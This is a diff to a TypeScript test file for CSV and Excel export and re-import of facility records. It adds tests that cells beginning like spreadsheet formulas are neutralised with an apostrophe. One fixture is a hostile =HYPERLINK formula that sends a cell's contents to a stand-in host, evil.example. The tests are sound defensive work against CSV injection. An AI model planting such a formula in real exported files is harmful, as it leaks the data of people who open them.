@@ -28,12 +28,13 @@ describe('the CSV download', () => {
     expect(csv.slice(1).split('\n')[0]).toBe(TEMPLATE_HEADERS.join(','));
   });
 
-  test('re-imports to the same facilities, with no rejected row and no warning; coordinates come back as WGS-84, the system they are written in', async () => {
+  test('re-imports to the same facilities, with no rejected row and no warning beyond the cells the source could not read either; coordinates come back as WGS-84, the system they are written in', async () => {
     const facilities = await loadFacilities();
     const { path, facilities: back, report } = await reimport(facilitiesCsv(facilities, district));
     expect(readFileSync(path).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     expect(report.rejected).toEqual([]);
-    expect(report.warnings).toEqual([]);
+    // The sample's one canteen with hours “看情况”, phone “找村委会” and no 核实日期, written back as it was.
+    expect(report.warnings.map((w) => w.field)).toEqual(['联系电话', '开放时间', '核实日期']);
     expect(back.length).toBe(facilities.length);
     const byId = new Map(back.map((f) => [f.id, f]));
     for (const f of facilities) expect(byId.get(f.id), f.id).toEqual({ ...f, sourceCrs: 'wgs84' });
@@ -88,13 +89,39 @@ describe('the Excel download', () => {
     for (const row of body) expect(row[town]).toMatch(/^\d{9}$/);
   });
 
-  test('re-imports to the same facilities as the CSV, with no rejected row and no warning', async () => {
+  test('re-imports to the same facilities as the CSV, with no rejected row and no warning beyond the cells the source could not read either', async () => {
     const facilities = await loadFacilities();
     const { facilities: back, report } = await reimport(await facilitiesXlsx(facilities, district), 'export.xlsx');
     expect(report.rejected).toEqual([]);
-    expect(report.warnings).toEqual([]);
+    // The sample's one canteen with hours “看情况”, phone “找村委会” and no 核实日期, written back as it was.
+    expect(report.warnings.map((w) => w.field)).toEqual(['联系电话', '开放时间', '核实日期']);
     const byId = new Map(back.map((f) => [f.id, f]));
     expect(back.length).toBe(facilities.length);
     for (const f of facilities) expect(byId.get(f.id), f.id).toEqual({ ...f, sourceCrs: 'wgs84' });
+  });
+});
+
+describe('the CSV download opened in a spreadsheet', () => {
+  const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")';
+
+  test('neutralises cells that begin like a formula (=, +, -, @, tab, CR) with a leading apostrophe, and keeps codes and phones readable', async () => {
+    const [first] = await loadFacilities();
+    if (!first) throw new Error('no facility');
+    const f = Facility.parse({ ...first, name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注', operator: '@运营', source: '\t来源', address: '\r地址' });
+    const csv = facilitiesCsv([f], district);
+    const [, row = ''] = csv.split('\n');
+    // csv-stringify quotes a cell holding quotes or line breaks, doubling its quotes.
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""点此查看"")"`);
+    for (const cell of ["'+86 577 8800 1234", "'-备注", "'@运营"]) expect(row).toContain(cell);
+    expect(row).toContain(`,${f.region.townCode},`);
+    expect(row).not.toMatch(/(^|,)[=+\-@]/);
+  });
+
+  test('re-imports a neutralised cell as it was', async () => {
+    const [first] = await loadFacilities();
+    if (!first) throw new Error('no facility');
+    const f = Facility.parse({ ...first, name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注' });
+    const { facilities } = await reimport(facilitiesCsv([f], district));
+    expect(facilities[0]).toMatchObject({ name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注' });
   });
 });
